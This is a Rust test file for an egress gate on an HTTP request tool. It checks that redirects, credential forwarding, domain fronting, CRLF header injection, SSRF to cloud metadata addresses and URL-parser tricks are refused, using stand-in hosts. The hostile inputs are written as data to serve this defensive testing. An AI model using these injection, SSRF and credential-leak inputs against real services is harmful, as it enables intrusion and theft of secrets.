//! `http.request`: what an answer or an argument would have it send, and whom.

use contract::{Private, Reach};
use egress::Guard;
use policy::{Credential, CredentialForm, EgressSettings, SecretSource};
use serde_json::json;

use super::trip::{Trip, granting};
use crate::Try;
use crate::case::Effect;
use crate::gate::case::Case;
use crate::gate::stand::{Ending, Stand};
use crate::place::token;
use crate::world::Visit;

pub(super) fn cases() -> Vec<Case> {
    vec![
        Case::new(
            "redirect-elsewhere",
            "a redirect to a host that was not granted is not followed",
            |stand| follow_bare(stand, "https://example.test/redirect?to=https://other.test/TOKEN", &[]),
            |stand| {
                let trip = Trip::begin(stand)?;
                for to in [
                    "https://other.test/TOKEN",
                    "//other.test/TOKEN",
                    "https://example.test:8443/TOKEN",
                    "https://127.0.0.1/TOKEN",
                ] {
                    let call = json!({ "url": format!("https://example.test/redirect?to={to}") });
                    let result = trip.ask(
                        &["example.test:443"],
                        "http.request",
                        &call,
                        Ending::Failed("host_not_allowed"),
                    )?;
                    if !result.content.contains("a redirect leads to") {
                        return Err(result.content.into());
                    }
                }
                Ok(trip.judged(is_elsewhere))
            },
        ),
        Case::new(
            "redirect-downgrade",
            "a redirect from https to http is not followed, though both were granted",
            |stand| follow_bare(stand, "https://example.test/redirect?to=http://example.test/TOKEN", &[]),
            |stand| {
                let trip = Trip::begin(stand)?;
                let call = json!({ "url": "https://example.test/redirect?to=http://example.test/TOKEN" });
                let granted = ["example.test:443", "example.test:80"];
                trip.ask(&granted, "http.request", &call, Ending::Failed("host_not_allowed"))?;
                Ok(trip.judged(is_elsewhere))
            },
        ),
        Case::new(
            "redirect-credential",
            "what was sent to one origin to prove who asks is not sent to another",
            |stand| {
                let secret = ["--location-trusted", "-H", "Authorization: Bearer TOKEN"];
                follow_bare(stand, "https://example.test/redirect?to=https://other.test/", &secret)
            },
            |stand| {
                let trip = Trip::begin(stand)?;
                let headers = json!({
                    "Authorization": "Bearer TOKEN", "Cookie": "id=TOKEN", "X-Api-Key": "TOKEN", "X-Any": "TOKEN",
                });
                let granted = ["example.test:443", "other.test:443"];
                let call = json!({ "url": "https://example.test/redirect?to=https://other.test/landed", "headers": headers });
                let result = trip.ask(&granted, "http.request", &call, Ending::Done)?;
                // It has got there, so that it had something to take along.
                if !result.content.contains("200 https://other.test/landed") {
                    return Err(result.content.into());
                }
                let first = trip.reached().iter().any(|visit| visit.says("/redirect"));
                let effect = trip.judged(is_elsewhere);
                if first { Ok(effect) } else { Err("the first host got no credential".into()) }
            },
        ),
        Case::new(
            "fronting",
            "behind the granted name in TLS no other host is asked, where the gate reads requests",
            |stand| {
                let trip = Trip::begin(stand)?;
                trip.bare("curl", &[FRONTING, &["https://other.test/TOKEN"]].concat())?;
                Ok(trip.judged(|visit| visit.says("Host: example.test")))
            },
            |stand| {
                let trip = Trip::begin(stand)?;
                let (_, egress) = with_credential(stand)?;
                let tried = trip.with(egress, "curl", &[FRONTING, &["https://other.test/TOKEN"]].concat())?;
                tried.refused("other.test:443", "other_host")?;
                Ok(trip.judged(|_| true))
            },
        )
        .held_by(Guard::Hosts),
        Case::new(
            "redirect-that-spends",
            "a host that sends a request elsewhere has no credential of the gate's sent along",
            |stand| spend(stand, "https://other.test/TOKEN"),
            |stand| spend(stand, "https://example.test/redirect?to=https://other.test/TOKEN"),
        ),
        Case::new(
            "command-that-spends",
            "a command that does not name a host has no credential of the gate's added for it, though it is listed",
            |stand| spend(stand, "https://other.test/TOKEN"),
            |stand| {
                let trip = Trip::begin(stand)?;
                let (secret, egress) = with_credential(stand)?;
                let url = format!("url = \"https://other.test/{}\"\n", trip.token);
                stand.put("curl.conf", &url)?;
                trip.with(egress, "curl", &["-sSk", "--max-time", "8", "--config", "curl.conf"])?
                    .says("reached")?;
                Ok(trip.judged(|visit| visit.says(&secret)))
            },
        ),
        Case::new(
            "header-injection",
            "no argument writes a header, a line or a request of its own",
            |stand| {
                let trip = Trip::begin(stand)?;
                trip.bare("curl", &["-sS", "-H", "X: y\r\nX-Second: TOKEN", "http://example.test/"])?;
                Ok(trip.judged(|visit| visit.request.lines().any(|line| line.starts_with("X-Second:"))))
            },
            inject,
        ),
        Case::new(
            "method-that-writes",
            "a request that changes something is asked for, and one that reads has no body",
            |stand| {
                let trip = Trip::begin(stand)?;
                trip.bare("curl", &["-sS", "-d", "TOKEN", "http://example.test/"])?;
                Ok(trip.judged(|_| true))
            },
            |stand| {
                let trip = Trip::begin(stand)?;
                for call in [
                    json!({ "url": "http://example.test/", "body": "TOKEN" }),
                    json!({ "url": "http://example.test/", "method": "CONNECT", "body": "TOKEN" }),
                    json!({ "url": "http://example.test/TOKEN", "headers": { "X-HTTP-Method-Override": "DELETE" } }),
                    json!({ "url": "http://user:TOKEN@example.test/" }),
                ] {
                    trip.ask(&["example.test:80"], "http.request", &call, Ending::Refused("bad_arguments"))?;
                }
                Ok(trip.judged(|_| true))
            },
        ),
        Case::new(
            "request-to-a-special-host",
            "a request reaches no private or local host, by address or by name",
            |stand| {
                let trip = Trip::begin(stand)?;
                trip.bare("curl", &["-sS", "http://private.test/TOKEN"])?;
                Ok(trip.judged(|_| true))
            },
            |stand| {
                let trip = Trip::begin(stand)?;
                for name in ["private.test", "metadata.test", "mapped.test", "mixed.test"] {
                    let call = json!({ "url": format!("http://{name}/TOKEN") });
                    let place = format!("{name}:80");
                    trip.ask(&[&place], "http.request", &call, Ending::Failed("host_not_allowed"))?;
                }
                for host in ["127.0.0.1", "[::1]", "169.254.169.254", "localhost", "metadata.google.internal"]
                {
                    let call = json!({ "url": format!("http://{host}/TOKEN") });
                    trip.ask(
                        &["example.test:80"],
                        "http.request",
                        &call,
                        Ending::Refused("host_not_allowed"),
                    )?;
                }
                Ok(trip.judged(|_| true))
            },
        ),
        Case::new(
            "endless-answer",
            "of an answer no more is read than was asked for, and a call that sends something sends it once",
            |stand| {
                let trip = Trip::begin(stand)?;
                let said = trip.bare("curl", &["-sS", "http://example.test/bytes/100000"])?;
                Ok(Effect::through_if(said.len() == 100_000, "all of it"))
            },
            |stand| {
                let trip = Trip::begin(stand)?;
                let call = json!({ "url": "https://example.test/bytes/100000", "max_bytes": 1000 });
                let result = trip.ask(&["example.test:443"], "http.request", &call, Ending::Done)?;
                let structured = result.structured.unwrap_or_default();
                let post = json!({ "url": "http://example.test/", "method": "POST", "body": "TOKEN" });
                trip.ask(&["example.test:80"], "http.request", &post, Ending::Done)?;
                let (read, sent) = (structured.get("bytes") == Some(&json!(1000)), trip.reached().len() == 1);
                Ok(Effect::through_if(!read || !sent, format!("{structured} {:?}", trip.reached())))
            },
        ),
    ]
}

const FRONTING: &[&str] = &["-sSk", "--max-time", "8", "-H", "Host: example.test"];

/// Not the one who sends others away.
fn is_elsewhere(visit: &Visit) -> bool {
    !visit.says("/redirect")
}

fn follow_bare(stand: &Stand<'_>, url: &str, words: &[&str]) -> Try<Effect> {
    let trip = Trip::begin(stand)?;
    trip.bare("curl", &[&["-sSkL", "--max-time", "8", "--globoff"], words, &[url]].concat())?;
    Ok(trip.judged(is_elsewhere))
}

/// Two listed hosts, and a credential for the other one.
fn with_credential(stand: &Stand<'_>) -> Try<(String, EgressSettings)> {
    let secret = token();
    let credential = Credential {
        to: Reach::parse("other.test:443").map_err(|error| error.to_string())?,
        form: CredentialForm::Bearer,
        from: SecretSource::File(stand.place.file("credential", &secret)?),
    };
    let granted = granting(&["example.test:443", "other.test:443"], Private::none())?;
    Ok((secret, EgressSettings { credentials: vec![credential], ..granted }))
}

/// Through if the other host gets the credential that the gate has for it.
fn spend(stand: &Stand<'_>, url: &str) -> Try<Effect> {
    let trip = Trip::begin(stand)?;
    let (secret, egress) = with_credential(stand)?;
    let result = trip.ask_with(egress, "http.request", &json!({ "url": url }), Ending::Done)?;
    if !result.content.contains(&format!("200 https://other.test/{}", trip.token)) {
        return Err(format!("it has not got there: {}", result.content).into());
    }
    Ok(trip.judged(|visit| visit.says(&secret)))
}

fn inject(stand: &Stand<'_>) -> Try<Effect> {
    let trip = Trip::begin(stand)?;
    let url = "http://example.test/";
    for call in [
        json!({ "url": url, "headers": { "X": "y\r\nX-Second: TOKEN" } }),
        json!({ "url": url, "headers": { "X: y\r\nX-Second": "TOKEN" } }),
        json!({ "url": url, "headers": { "Host": "TOKEN.test" } }),
        json!({ "url": url, "headers": { "Transfer-Encoding": "chunked, TOKEN" } }),
        json!({ "url": url, "headers": { "content-length": "0 TOKEN" } }),
        json!({ "url": url, "headers": { "Connection": "TOKEN" } }),
        json!({ "url": url, "headers": { "Proxy-Authorization": "TOKEN" } }),
        json!({ "url": url, "headers": { "Upgrade": "TOKEN" } }),
        json!({ "url": url, "method": "GET / HTTP/1.1\r\nX-Second: TOKEN\r\n" }),
        json!({ "url": "http://example.test/ HTTP/1.1\r\nX-Second: TOKEN\r\n" }),
        json!({ "url": "http://example.test/\r\nX-Second: TOKEN" }),
        json!({ "url": "http://example.test\\@other.test/TOKEN" }),
        json!({ "url": "http://example.test#@other.test/TOKEN" }),
    ] {
        trip.ask(&["example.test:80"], "http.request", &call, Ending::Refused("bad_arguments"))?;
    }
    Ok(trip.judged(|_| true))
}
